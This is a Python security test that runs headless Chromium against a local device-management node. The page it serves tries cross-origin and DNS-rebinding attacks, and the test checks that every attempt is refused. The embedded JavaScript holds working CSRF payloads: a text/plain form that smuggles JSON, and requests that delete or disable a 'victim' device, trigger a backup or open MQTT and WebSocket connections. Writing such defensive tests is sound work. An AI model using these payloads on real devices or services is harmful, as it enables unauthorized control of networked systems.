"""A web page of elsewhere, in a real browser, that tries what it can to a node in `dev` on the same machine: by forms,
images, scripts, frames, fetch, beacons, event streams and WebSockets, by address and by names that lead here.

Between browser and node stands a relay that changes nothing and notes what was asked and answered. So it is known of each
attempt that the browser made it, and how the node refused it. A second relay plays the attacker whose name led to a
server of theirs when the page was loaded, and leads to this machine from then on (DNS rebinding): to the browser, page and
node are then of one origin, and only the node can refuse.

Usage: page.py CHROMIUM MQTT_PORT HTTP_PORT
"""
import json
import re
import socket
import subprocess
import sys
import tempfile
import threading
import time

chromium, mqtt_port, http_port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
PATIENCE = 60
REQUEST = re.compile(rb"(GET|HEAD|POST|PUT|PATCH|DELETE|OPTIONS) (\S+) HTTP/1\.1\r\n")
ANSWER = re.compile(rb"HTTP/1\.1 (\d{3}) .*?\r\n\r\n(?:[^\r\n]*?\"code\":\"([a-z-]+)\")?", re.DOTALL)

ATTEMPTS = """
const at = (by, path = '/v1/devices') => `${TARGET}${path}?by=${by}`
const json = { 'Content-Type': 'application/json' }
const text = { 'Content-Type': 'text/plain' }
const quietly = (promise) => Promise.race([promise.then(() => 0, () => 0), new Promise((r) => setTimeout(r, 4000))])
const element = (name, attributes) => quietly(new Promise((done) => {
  const made = Object.assign(document.createElement(name), attributes, { onload: done, onerror: done })
  document.body.append(made)
}))
const form = (by, enctype, named) => element('iframe', { name: by, srcdoc: '' }).then(() => {
  const sent = Object.assign(document.createElement('form'), { method: 'POST', action: at(by), enctype, target: by })
  // In plain text its line `name=value` is JSON.
  sent.append(Object.assign(document.createElement('input'), { name: named, value: '"}}' }))
  document.body.append(sent)
  sent.submit()
})
const opened = (made, of) => quietly(new Promise((done) => {
  made.onopen = () => { openedBy.push(of); done() }
  made.onmessage = made.onerror = made.onclose = done
}))
const openedBy = [], read = {}
const reads = (by, promise) => quietly(promise.then((a) => a.text()).then((said) => { read[by] = said }))

async function attempt() {
  await form('form-text', 'text/plain', '{"tags":{"a":"')
  await form('form-url', 'application/x-www-form-urlencoded', 'tags')
  await form('form-parts', 'multipart/form-data', 'tags')
  for (const name of ['iframe', 'img', 'script']) await element(name, { src: at(name) })
  await element('link', { rel: 'stylesheet', href: at('link') })
  await reads('get', fetch(at('get')))
  await reads('get-silent', fetch(at('get-silent'), { mode: 'no-cors' }))
  await reads('post-text', fetch(at('post-text'), { method: 'POST', mode: 'no-cors', headers: text, body: '{}' }))
  await reads('post-untyped', fetch(at('post-untyped'), { method: 'POST', mode: 'no-cors', body: new Blob(['{}']) }))
  await reads('post-empty', fetch(at('post-empty', '/v1/devices/victim/disable'), { method: 'POST', mode: 'no-cors' }))
  await reads('sample', fetch(at('sample', '/v1/twins/me/telemetry/heat'), { method: 'POST', mode: 'no-cors', body: new Blob(['1']) }))
  await reads('post-json', fetch(at('post-json'), { method: 'POST', headers: json, body: '{}' }))
  await reads('put', fetch(at('put', '/v1/devices/evil'), { method: 'PUT', headers: json, body: '{}' }))
  await reads('patch', fetch(at('patch', '/v1/twins/victim'), { method: 'PATCH', headers: json, body: '{"tags":{"evil":1}}' }))
  await reads('delete', fetch(at('delete', '/v1/devices/victim'), { method: 'DELETE' }))
  await reads('backup', fetch(at('backup', '/v1/backup'), { method: 'POST', mode: 'no-cors' }))
  navigator.sendBeacon(at('beacon'), new Blob(['{}'], { type: 'text/plain' }))
  await opened(new EventSource(at('events', '/v1/events/stream')), 'events')
  await opened(new WebSocket(at('socket', '/mqtt').replace('http:', 'ws:'), 'mqtt'), 'socket')
  await opened(new WebSocket(MQTT.replace('http:', 'ws:')), 'mqtt')
  await quietly(fetch(MQTT, { method: 'POST', mode: 'no-cors', body: new Uint8Array([16, 13, 0, 4, 77, 81, 84, 84, 5]) }))
  await quietly(new Promise((r) => setTimeout(r, 500)))
}
attempt().finally(async () => {
  await fetch(REPORT, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ from: NAME, opened: openedBy, read }) })
  if (NEXT) location = NEXT
})
"""
BY = set(re.findall(r"(?:at|form)\('([a-z-]+)'", ATTEMPTS)) | {"iframe", "img", "script"}


class Relay:
    """Passes on to a port of this machine whatever comes, and notes what HTTP is in it. A page, where there is one, it
    answers itself."""

    def __init__(self, address, port, page=None):
        self.port, self.page, self.connections, self.reported = port, page, [], []
        self.listener = socket.create_server((address, 0))
        self.at = self.listener.getsockname()[1]
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            client, _ = self.listener.accept()
            threading.Thread(target=self.serve, args=(client,), daemon=True).start()

    def serve(self, client):
        first = client.recv(65536)
        if self.page and first.startswith((b"GET /page ", b"POST /report ", b"GET /favicon.ico ")):
            return self.answer(client, first)
        asked, answered = bytearray(first), bytearray()
        self.connections.append((asked, answered))
        if not first:
            return
        node = socket.create_connection(("127.0.0.1", self.port))
        node.sendall(first)
        back = threading.Thread(target=pipe, args=(node, client, answered), daemon=True)
        back.start()
        pipe(client, node, asked)

    def answer(self, client, first):
        if first.startswith(b"POST"):
            head, _, body = first.partition(b"\r\n\r\n")
            length = int(re.search(rb"(?i)content-length: (\d+)", head)[1])
            while len(body) < length:
                body += client.recv(65536)
            self.reported.append(json.loads(body))
        body = self.page if first.startswith(b"GET /page ") else b""
        head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        client.sendall(head.encode() + body)
        client.close()

    def exchanges(self):
        """What was asked, and the status and the code by which it was answered; a browser asks one after the other."""
        for asked, answered in self.connections:
            requests = [(method.decode(), path.decode()) for method, path in REQUEST.findall(bytes(asked))]
            answers = [(int(status), code.decode()) for status, code in ANSWER.findall(bytes(answered))]
            answers += [(0, "")] * (len(requests) - len(answers))
            yield from zip(requests, answers)


def pipe(source, target, noted):
    try:
        while part := source.recv(65536):
            noted += part
            target.sendall(part)
    except OSError:
        pass
    for end in (source, target):
        try:
            end.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


def page(name, target, mqtt, report, following):
    given = {"NAME": name, "TARGET": target, "MQTT": mqtt, "REPORT": report, "NEXT": following}
    said = "".join(f"const {key} = {json.dumps(value)}\n" for key, value in given.items())
    return f"<!doctype html><title>{name}</title><body><script>\n{said}{ATTEMPTS}</script>".encode()


def passed(claim):
    print(f"  ok  {claim}", flush=True)


def refused(relay, names, code, what):
    """Each attempt reached the node, and was refused for this reason."""
    seen = {}
    for (method, path), (status, said) in relay.exchanges():
        if "?by=" in path:
            seen.setdefault(path.partition("?by=")[2], []).append((method, status, said))
    for name in sorted(names):
        answers = seen.get(name)
        if not answers:
            sys.exit(f"FAILED  {what}: the browser did not try `{name}`")
        if wrong := [answer for answer in answers if answer[2] != code]:
            sys.exit(f"FAILED  {what}: `{name}` is refused as {code}, not answered {wrong}")
    passed(f"{what}: {len(names)} attempts reach the node, and each is refused: {code}")


# The page that it ends with, the one before, and the first.
mqtt = Relay("127.0.0.1", mqtt_port)
own = Relay("127.0.0.1", 0, page=b"-")
rebound = Relay("127.0.0.2", http_port, page=b"-")
named = Relay("127.0.0.1", http_port)
direct = Relay("127.0.0.1", http_port)
first = f"http://evil.example:{own.at}"
report, to_mqtt = f"{first}/report", f"http://127.0.0.1:{mqtt.at}/"
of_rebound = f"http://rebound.example:{rebound.at}"
rebound.page = page("rebound", of_rebound, to_mqtt, report, None)
second = Relay("127.0.0.1", 0, page=b"-")
second.page = page("named", f"http://named.example:{named.at}", to_mqtt, report, f"{of_rebound}/page")
own.page = page("direct", f"http://127.0.0.1:{direct.at}", to_mqtt, report, f"http://evil.example:{second.at}/page")

with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
    browser = subprocess.Popen(
        [
            chromium, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
            "--disable-dev-shm-usage", f"--user-data-dir={profile}",
            # What a browser may keep from machines of a private network is not what is looked at.
            "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
            "--host-resolver-rules=MAP rebound.example 127.0.0.2, MAP *.example 127.0.0.1",
            f"{first}/page",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    said = []
    threading.Thread(target=lambda: said.extend(browser.stderr), daemon=True).start()
    end = time.monotonic() + PATIENCE
    while len(own.reported) < 3 and time.monotonic() < end and browser.poll() is None:
        time.sleep(0.1)
    browser.kill()
    browser.wait()

if len(own.reported) < 3:
    tail = b"".join(said[-10:]).decode(errors="replace")
    sys.exit(f"FAILED  the browser ran {len(own.reported)} of 3 pages to their end:\n{tail}")
for told in own.reported:
    if told["opened"]:
        sys.exit(f"FAILED  a page opened {told['opened']}")
    # What was read of another origin is nothing; of its own, why it was refused.
    if wrong := {by: text for by, text in told["read"].items() if text and "foreign-host" not in text}:
        sys.exit(f"FAILED  the page `{told['from']}` read {wrong}")
refused(direct, BY, "foreign-origin", "a page of elsewhere, by address")
refused(named, BY, "foreign-host", "by a name that leads to this machine")
refused(rebound, BY, "foreign-host", "by its own name, which leads here since it was loaded")
if not own.reported[2]["read"].get("get"):
    sys.exit("FAILED  the last page reads why it was refused, as of its own origin")
answered = [bytes(said) for _, said in mqtt.connections if said]
if len(mqtt.connections) < 6 or any(not said.startswith(b"\x20") and said[0] != 0xE0 for said in answered):
    sys.exit(f"FAILED  MQTT answers a page with nothing but a refusal: {len(mqtt.connections)} tried, {answered}")
passed(f"what it says to the port of MQTT is none: {len(mqtt.connections)} attempts")
